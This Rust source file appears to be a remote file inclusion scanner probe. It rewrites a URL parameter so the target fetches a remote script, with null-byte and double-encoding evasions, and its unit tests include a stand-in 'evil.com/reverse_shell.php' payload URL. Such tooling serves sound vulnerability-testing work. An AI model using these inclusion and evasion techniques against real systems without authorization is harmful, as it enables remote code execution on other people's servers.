// RFI probe: rewrites one query parameter of a target URL to reference an
// attacker-controlled script, and checks the response body for the marker
// the test script prints when the target executes it

use url::Url;

use crate::engine::Transport;
use crate::error::Error;
use crate::models::{Evasion, Method};

/// Default URL of the RFI test script
pub const TEST_SCRIPT: &str =
    "https://raw.githubusercontent.com/ronin-rb/ronin-vuln-rfi/main/data/test.php";

/// The string the test script prints when it is included and executed by a
/// vulnerable target. Detection is an exact, case-sensitive substring match
/// against this value.
pub const VULN_RESPONSE_STRING: &str =
    "Remote File Inclusion (RFI) Detected: eval(\"1 + 1\") = 2";

/// One RFI trial: a specific query parameter of a specific URL, under a
/// specific evasion. Constructed per trial, used for one detection check,
/// and discarded.
#[derive(Debug, Clone)]
pub struct Probe {
    url: Url,
    param: String,
    evasion: Evasion,
    test_script: String,
}

impl Probe {
    /// Create a probe for `param` of `url`. Fails fast on a malformed URL,
    /// before any network activity.
    pub fn new(url: &str, param: impl Into<String>) -> Result<Self, Error> {
        Ok(Self::from_url(Url::parse(url)?, param))
    }

    pub fn from_url(url: Url, param: impl Into<String>) -> Self {
        Self {
            url,
            param: param.into(),
            evasion: Evasion::None,
            test_script: TEST_SCRIPT.to_string(),
        }
    }

    pub fn with_evasion(mut self, evasion: Evasion) -> Self {
        self.evasion = evasion;
        self
    }

    pub fn with_test_script(mut self, test_script: impl Into<String>) -> Self {
        self.test_script = test_script.into();
        self
    }

    pub fn url(&self) -> &Url {
        &self.url
    }

    pub fn param(&self) -> &str {
        &self.param
    }

    pub fn evasion(&self) -> Evasion {
        self.evasion
    }

    pub fn test_script(&self) -> &str {
        &self.test_script
    }

    /// Build the URL that coerces the target into including `script_url`.
    ///
    /// Any query string carried by the script reference itself is merged
    /// into the outer request and stripped from the reference. Every other
    /// query pair of the target URL is preserved unchanged; the target
    /// parameter is set last and unconditionally, and is added even when it
    /// was absent from the original query string.
    pub fn inclusion_url(&self, script_url: &str) -> Result<Url, Error> {
        let mut script = Url::parse(script_url)?;

        // Chain the script's own query pairs into the outer request
        let chained: Vec<(String, String)> = script
            .query_pairs()
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect();
        script.set_query(None);

        let mut script_ref = script.to_string();
        match self.evasion {
            Evasion::None => {}
            // The query serializer percent-encodes the NUL to %00
            Evasion::NullByte => script_ref.push('\0'),
            // Pre-encode once; the query serializer encodes a second time
            Evasion::DoubleEncode => script_ref = urlencoding::encode(&script_ref).into_owned(),
        }

        let kept: Vec<(String, String)> = self
            .url
            .query_pairs()
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .chain(chained)
            .filter(|(key, _)| key != &self.param)
            .collect();

        let mut url = self.url.clone();
        {
            let mut pairs = url.query_pairs_mut();
            pairs.clear();
            for (key, value) in &kept {
                pairs.append_pair(key, value);
            }
            // Exactly one parameter is overwritten, and it is set last
            pairs.append_pair(&self.param, &script_ref);
        }
        Ok(url)
    }

    /// Perform one inclusion request for `script_url` and return the raw
    /// response body. Transport failures propagate unmodified.
    pub async fn include_via<T: Transport>(
        &self,
        transport: &T,
        method: Method,
        script_url: &str,
    ) -> Result<String, Error> {
        let url = self.inclusion_url(script_url)?;
        transport.fetch(method, &url).await
    }

    /// Whether a response body proves the inclusion executed
    pub fn response_indicates_rfi(body: &str) -> bool {
        body.contains(VULN_RESPONSE_STRING)
    }

    /// Test whether this (URL, parameter, evasion) combination is
    /// vulnerable, by including the configured test script and looking for
    /// its marker in the response.
    pub async fn is_vulnerable<T: Transport>(
        &self,
        transport: &T,
        method: Method,
    ) -> Result<bool, Error> {
        let body = self.include_via(transport, method, &self.test_script).await?;
        Ok(Self::response_indicates_rfi(&body))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const BASE: &str = "https://example.com/page.php?q=foo&vuln=bar";
    const SCRIPT: &str = "http://evil.com/reverse_shell.php";

    fn probe(evasion: Evasion) -> Probe {
        Probe::new(BASE, "vuln").unwrap().with_evasion(evasion)
    }

    #[test]
    fn test_rewrite_none() {
        let url = probe(Evasion::None).inclusion_url(SCRIPT).unwrap();
        assert_eq!(
            url.as_str(),
            "https://example.com/page.php?q=foo&vuln=http%3A%2F%2Fevil.com%2Freverse_shell.php"
        );
    }

    #[test]
    fn test_rewrite_preserves_other_params() {
        let url = probe(Evasion::None).inclusion_url(SCRIPT).unwrap();
        let q: Vec<(String, String)> = url
            .query_pairs()
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect();
        assert!(q.contains(&("q".to_string(), "foo".to_string())));
        assert_eq!(q.iter().filter(|(k, _)| k == "vuln").count(), 1);
    }

    #[test]
    fn test_rewrite_does_not_mutate_probe_url() {
        let probe = probe(Evasion::NullByte);
        probe.inclusion_url(SCRIPT).unwrap();
        assert_eq!(probe.url().as_str(), BASE);
    }

    #[test]
    fn test_rewrite_null_byte_decodes_to_nul_suffix() {
        let url = probe(Evasion::NullByte).inclusion_url(SCRIPT).unwrap();
        let value = url
            .query_pairs()
            .find(|(k, _)| k == "vuln")
            .map(|(_, v)| v.into_owned())
            .unwrap();
        assert_eq!(value, format!("{}\0", SCRIPT));
        assert!(url.as_str().ends_with("%00"));
    }

    #[test]
    fn test_rewrite_double_encode() {
        let url = probe(Evasion::DoubleEncode).inclusion_url(SCRIPT).unwrap();
        let expected = urlencoding::encode(&urlencoding::encode(SCRIPT).into_owned()).into_owned();
        assert!(url.query().unwrap().contains(&format!("vuln={}", expected)));
    }

    #[test]
    fn test_rewrite_idempotent_under_none() {
        let probe = probe(Evasion::None);
        let once = probe.inclusion_url(SCRIPT).unwrap();
        let again = Probe::from_url(once.clone(), "vuln")
            .inclusion_url(SCRIPT)
            .unwrap();
        assert_eq!(once, again);
    }

    #[test]
    fn test_rewrite_adds_missing_param() {
        let probe = Probe::new("https://example.com/page.php?q=foo", "vuln").unwrap();
        let url = probe.inclusion_url(SCRIPT).unwrap();
        assert!(url.query().unwrap().contains("vuln="));
        assert!(url.query().unwrap().contains("q=foo"));
    }

    #[test]
    fn test_rewrite_chains_script_query_params() {
        let probe = probe(Evasion::None);
        let url = probe
            .inclusion_url("http://evil.com/reverse_shell.php?a=1")
            .unwrap();
        let q: Vec<(String, String)> = url
            .query_pairs()
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect();
        assert!(q.contains(&("a".to_string(), "1".to_string())));
        // the reference placed in the parameter no longer carries its query
        assert!(q.contains(&("vuln".to_string(), SCRIPT.to_string())));
    }

    #[test]
    fn test_marker_detection() {
        let body = format!("<html>{}</html>", VULN_RESPONSE_STRING);
        assert!(Probe::response_indicates_rfi(&body));
        assert!(!Probe::response_indicates_rfi("<html>ordinary page</html>"));
        assert!(!Probe::response_indicates_rfi(""));
        // case-sensitive, no normalization
        assert!(!Probe::response_indicates_rfi(
            &VULN_RESPONSE_STRING.to_lowercase()
        ));
    }

    #[test]
    fn test_malformed_url_fails_fast() {
        assert!(Probe::new("not a url", "vuln").is_err());
        let probe = Probe::new(BASE, "vuln").unwrap();
        assert!(probe.inclusion_url("::nonsense::").is_err());
    }
}
